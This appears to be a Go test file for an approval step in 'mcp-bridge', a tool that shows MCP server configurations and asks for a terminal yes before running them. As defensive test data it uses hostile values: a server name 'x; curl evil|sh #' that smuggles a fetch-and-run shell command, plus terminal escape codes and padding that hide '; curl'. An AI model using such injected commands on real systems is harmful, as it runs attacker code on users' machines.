package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcp-bridge/mcp-bridge/bridge/approvals"
	"github.com/mcp-bridge/mcp-bridge/bridge/elicit"
	"github.com/mcp-bridge/mcp-bridge/cmd/mcp-bridge/exit"
	"github.com/mcp-bridge/mcp-bridge/cmd/mcp-bridge/terminal"
	"github.com/mcp-bridge/mcp-bridge/discovery"
)

// typing is a terminal at which something is typed.
type typing struct {
	io.Reader
	bytes.Buffer
}

func (t *typing) Read(p []byte) (int, error) { return t.Reader.Read(p) }
func (t *typing) Close() error               { return nil }

// TestApproveAtTheTerminal: a yes is typed at the terminal, or as --yes. Standard input is neither,
// whatever it says.
func TestApproveAtTheTerminal(t *testing.T) {
	none := errors.New("no such device")
	for _, tt := range []struct {
		name, typed string
		noTerminal  error
		yes         bool // --yes
		approved    bool
		says        string // the error
	}{
		{"a pipe says y", "", none, false, false,
			"there is no terminal to ask at (no such device); at one, type the command again, or type --yes"},
		{"--yes", "", none, true, true, ""},
		{"y", "y\n", nil, false, true, ""},
		{"Yes", " Yes\r\n", nil, false, true, ""},
		{"n", "n\n", nil, false, false, ""},
		{"nothing", "\n", nil, false, false, ""},
		{"the end", "", nil, false, false, ""},
		{"what is no word for it", "yes, sure\n", nil, false, false, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			state := t.TempDir()
			t.Setenv("XDG_STATE_HOME", state)
			t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
			s := discovery.Server{Name: "evil", Transport: discovery.Stdio, Command: "sh",
				Args:   []string{"-c", "x\u3164\x1b[2J" + strings.Repeat(" ", 500) + "; curl"},
				Source: discovery.Source{Host: "Cursor", Scope: "user", Path: "/x\x1b[2J\nProgram: \"uvx\""}}
			screen := &typing{Reader: strings.NewReader(tt.typed)}
			var stdout, stderr bytes.Buffer
			a := &app{io: &terminal.Streams{In: strings.NewReader("y\n"), Out: terminal.New(&stdout),
				Err: terminal.New(&stderr), Open: func() (io.ReadWriteCloser, error) { return screen, tt.noTerminal }}}
			kept := approvals.New(approvalsConfig(slog.New(slog.DiscardHandler)))
			c := discovery.Catalog{Servers: []discovery.Server{s}}
			err := a.approve(t.Context(), kept, c, []string{"evil"}, tt.yes)
			if (err == nil) != tt.approved || tt.says != "" && (err == nil || err.Error() != tt.says) {
				t.Errorf("got %v", err)
			}
			record, _ := os.ReadFile(filepath.Join(state, "mcp-bridge", "approved.json"))
			if strings.Contains(string(record), s.ID()) != tt.approved ||
				strings.Contains(stdout.String(), "approved") != tt.approved {
				t.Errorf("%s; the record is %s", stdout.String(), record)
			}
			shown := screen.String() + stderr.String()
			if tt.noTerminal != nil && !tt.yes {
				return
			}
			if want := "File: \"/x\\x1b[2J\\nProgram: \\\"uvx\\\"\" (Cursor, user)\nProgram: \"sh\"\nArgument 1: " +
				"\"-c\"\nArgument 2: \"x\\u3164\\x1b[2J\"[500 blanks]\"; curl\"\n"; !strings.Contains(shown, want) {
				t.Errorf("shown %s\nwant %s", shown, want)
			}
			if (stderr.Len() > 0) != tt.yes {
				t.Errorf("stderr %s", stderr.String())
			}
		})
	}
}

// TestApproveSeveral: each is shown and asked about, whatever was said of the one before; where one
// isn't there, nothing is asked.
func TestApproveSeveral(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
	var c discovery.Catalog
	for _, name := range []string{"a", "b", "c"} {
		c.Servers = append(c.Servers, discovery.Server{Name: name, Transport: discovery.Stdio,
			Command: "run-" + name})
	}
	screen := &typing{Reader: strings.NewReader("y\nn\ny\n")}
	var stdout, stderr bytes.Buffer
	a := &app{io: &terminal.Streams{Out: terminal.New(&stdout), Err: terminal.New(&stderr),
		Open: func() (io.ReadWriteCloser, error) { return screen, nil }}}
	kept := approvals.New(approvalsConfig(slog.New(slog.DiscardHandler)))
	err := a.approve(t.Context(), kept, c, []string{"a", "no", "b"}, false)
	if !errors.As(err, new(exit.UsageError)) || screen.String() != "" {
		t.Errorf("got %v and asked %s", err, screen)
	}
	if err := a.approve(t.Context(), kept, c, []string{"a", "b", "c"}, false); !errors.As(err, new(exit.Error)) {
		t.Errorf("got %v", err)
	}
	holds(t, screen.String(), `Program: "run-a"`, `Program: "run-b"`, `Program: "run-c"`)
	if out := stdout.String(); !strings.Contains(out, `"a"`) || strings.Contains(out, `"b"`) ||
		!strings.Contains(out, `"c"`) {
		t.Errorf("approved are %s", out)
	}
}

// TestApproveInterrupted: a question ends with the command, whose answer doesn't come.
func TestApproveInterrupted(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
	r, w := io.Pipe()
	defer w.Close()
	screen := &typing{Reader: r}
	a := &app{io: &terminal.Streams{Out: terminal.New(io.Discard), Err: terminal.New(io.Discard),
		Open: func() (io.ReadWriteCloser, error) { return screen, nil }}}
	ctx, interrupt := context.WithCancelCause(t.Context())
	interrupt(errInterrupt)
	if err := a.io.Confirm(ctx, "", "Write this? [y/N] ", false); !errors.Is(err, errInterrupt) {
		t.Errorf("got %v", err)
	}
}

// TestApproveElsewhere: a yes reaches a bridge whose host passes other variables on than the
// terminal has, by the server's name or with all that are held.
func TestApproveElsewhere(t *testing.T) {
	for _, what := range []string{"x; curl evil|sh #", "--all"} {
		home, name := t.TempDir(), "x; curl evil|sh #"
		vars := append(inHome(home), "XDG_STATE_HOME="+t.TempDir())
		theirs := append(vars, "XDG_RUNTIME_DIR="+t.TempDir(), "TMPDIR="+t.TempDir())
		f := follow(t, filepath.Join(home, ".cursor", "mcp.json"), map[string]entry{"first": {Command: "one"}},
			theirs...)
		f.write(t, map[string]entry{"first": {Command: "one"}, name: {Command: "two"}})
		f.says(t, `not_approved="[`+name+`]"`)
		cmd := command(t, nil, "servers", "approve", what, "--yes")
		cmd.Dir, cmd.Env = home, append(cmd.Env, append(vars, "XDG_RUNTIME_DIR=", "TMPDIR=")...)
		if out, err := cmd.CombinedOutput(); err != nil || strings.Count(string(out), "approved ") != 1 ||
			!strings.Contains(string(out), "that run and know it now: 1") {
			t.Fatalf("%v: %s", err, out)
		}
		f.hears(t)
	}
}

// TestApproveAllIsNamed: where several servers are held, the one command for all of them is named.
func TestApproveAllIsNamed(t *testing.T) {
	home := t.TempDir()
	vars := append(inHome(home), "XDG_STATE_HOME="+t.TempDir(), "XDG_RUNTIME_DIR="+t.TempDir())
	now := map[string]entry{"first": {Command: "one"}}
	f := follow(t, filepath.Join(home, ".cursor", "mcp.json"), now, vars...)
	for _, held := range []string{"second", "third"} {
		now[held] = entry{Command: held}
		f.write(t, now)
		f.says(t, held+"]")
		cmd := command(t, nil, "servers")
		cmd.Dir, cmd.Env = home, append(cmd.Env, vars...)
		out, err := cmd.CombinedOutput()
		shown := strings.Join(strings.Fields(string(out)), " ")
		if err != nil || !strings.Contains(shown, "run: mcp-bridge servers approve "+held) ||
			strings.Contains(shown, "for all that are held: mcp-bridge servers approve --all") != (held == "third") {
			t.Errorf("%s is held: %v\n%s", held, err, out)
		}
	}
}

func TestHowToApprove(t *testing.T) {
	s := discovery.Server{Name: "x; curl evil|sh #"}
	if got, want := elicit.HowToApprove(s, "this directory"),
		"to allow it, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
	if got, want := elicit.HowToApprove(discovery.Server{Name: "-x"}, ""),
		"to allow it, run: mcp-bridge servers approve -- -x"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
	s.Source.Scope = discovery.Listed
	if got, want := elicit.HowToApprove(s, "this directory"),
		"to allow it, in this directory, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
}
